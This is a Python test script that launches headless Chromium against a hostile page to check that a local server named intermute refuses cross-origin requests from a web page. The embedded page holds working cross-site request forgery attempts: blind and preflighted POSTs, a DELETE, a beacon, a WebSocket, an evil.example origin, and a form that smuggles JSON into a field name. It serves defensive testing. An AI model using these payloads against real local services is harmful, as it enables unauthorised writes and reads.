"""browser_attack.py BIN_DIRECTORY [CHROMIUM]: a real browser opens a hostile page beside a server.

Not part of ctest, since it needs Chromium, which nothing else here does. It starts `intermute` and
a web server of another origin, lets the browser open a page of the latter that tries whatever a
page can send to 127.0.0.1, and then looks: nothing was written, nothing could be read, and every
request of the page was refused.
"""

import contextlib
import http.server
import json
import pathlib
import re
import subprocess
import sys
import tempfile
import threading
import urllib.request

COUNT = re.compile(r'requests_total\{method="(\w+)",route="([^"]+)",status="(\d+)"\} (\d+)')

PAGE = """<!doctype html><title>hostile</title><body><script>
const at = "http://HOST:PORT", made = JSON.stringify({project: "p", title: "from a page"});
const seen = {};
const attempt = async (name, work) => {
  try { seen[name] = await work(); } catch (e) { seen[name] = "refused"; }
};
const read = async (url, options) => (await (await fetch(url, options)).text()).slice(0, 60);
const load = (tag, url) => new Promise((done, fail) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = fail;
  element.src = url; document.body.append(element);
});
(async () => {
  await attempt("simple POST", () => read(at + "/api/specs", {method: "POST", body: made}));
  await attempt("blind POST", async () => (await fetch(at + "/api/specs",
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: made})).type);
  await attempt("POST with preflight", () => read(at + "/api/specs",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: made}));
  await attempt("DELETE", () => read(at + "/api/specs/x?project=p", {method: "DELETE"}));
  await attempt("GET", () => read(at + "/api/agents"));
  await attempt("blind GET", async () => (await fetch(at + "/api/agents", {mode: "no-cors"})).type);
  await attempt("image", () => load("img", at + "/api/agents"));
  await attempt("script", () => load("script", at + "/metrics"));
  await attempt("beacon", async () => navigator.sendBeacon(at + "/api/specs", made) && "sent");
  await attempt("WebSocket", () => new Promise((done, fail) => {
    const socket = new WebSocket(at.replace("http", "ws") + "/ws/events?project=p&since_cursor=0");
    socket.onopen = () => done("open"); socket.onerror = fail;
  }));
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms";
  frame.srcdoc = `<form method=post enctype=text/plain action="${at}/api/specs">
    <input name='{"project":"p","title":"form","x":"' value='"}'></form>
    <script>document.forms[0].submit()<\\/script>`;
  document.body.append(frame);
  await new Promise(done => frame.onload = () => setTimeout(done, 500));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


class Hostile(http.server.BaseHTTPRequestHandler):
    """Another origin: serves the page and hears what it saw."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        host = "evil.example" if self.path == "/bent" else "127.0.0.1"
        page = PAGE.replace("HOST", host).replace("PORT", str(self.server.victim))
        self.wfile.write(page.encode() if self.path in ("/", "/bent") else b"")

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
        self.server.report = json.loads(body)
        self.server.heard.set()

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def intermute(directory, bin_directory):
    process = subprocess.Popen(
        [bin_directory / "intermute", "serve", "--port=0", "--db=test.db", "--log-level=error"],
        cwd=directory, stdout=subprocess.PIPE, text=True)
    try:
        yield int(process.stdout.readline().rpartition(":")[2])
    finally:
        process.terminate()
        process.wait()


def get(port, path):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}") as answer:
        return answer.read().decode()


def visit(chromium, port, path):
    """What the page saw."""
    hostile = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    hostile.victim, hostile.heard, hostile.report = port, threading.Event(), None
    threading.Thread(target=hostile.serve_forever, daemon=True).start()
    name = "evil.example" if path == "/bent" else "localhost"
    with tempfile.TemporaryDirectory() as profile:
        browser = subprocess.Popen(
            [*chromium, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}",
             "--host-resolver-rules=MAP evil.example 127.0.0.1",
             f"http://{name}:{hostile.server_port}{path}"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        heard = hostile.heard.wait(60)
        browser.terminate()
        browser.wait()
    hostile.shutdown()
    return hostile.report if heard else None


def main(bin_directory, chromium="chromium"):
    faults = []
    with tempfile.TemporaryDirectory() as directory:
        with intermute(directory, pathlib.Path(bin_directory).resolve()) as port:
            for path in ("/", "/bent"):
                seen = visit(chromium.split(), port, path)
                print(path, json.dumps(seen, indent=2))
                # A page may send blindly, and learns nothing: "opaque".
                blind = {"blind POST": "opaque", "blind GET": "opaque", "beacon": "sent"}
                faults += ["the browser reported nothing"] if seen is None else [
                    f"{path} {name}: {told}" for name, told in seen.items()
                    if told not in ("refused", blind.get(name))]
            if get(port, "/api/events") != '{"events":[],"cursor":0}\n':
                faults.append("a page wrote something: " + get(port, "/api/events"))
            counts = COUNT.findall(get(port, "/metrics"))
            print(*counts, sep="\n")
            faults += [f"{m} {r} was answered with {s}" for m, r, s, _ in counts
                       if s < "400" and (m, r) not in (("GET", "/api/events"), ("GET", "/metrics"))]
            if sum(int(n) for _, _, s, n in counts if s == "403") < 10:
                faults.append("the page's requests did not arrive, so nothing was shown")
    print(*faults, sep="\n")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
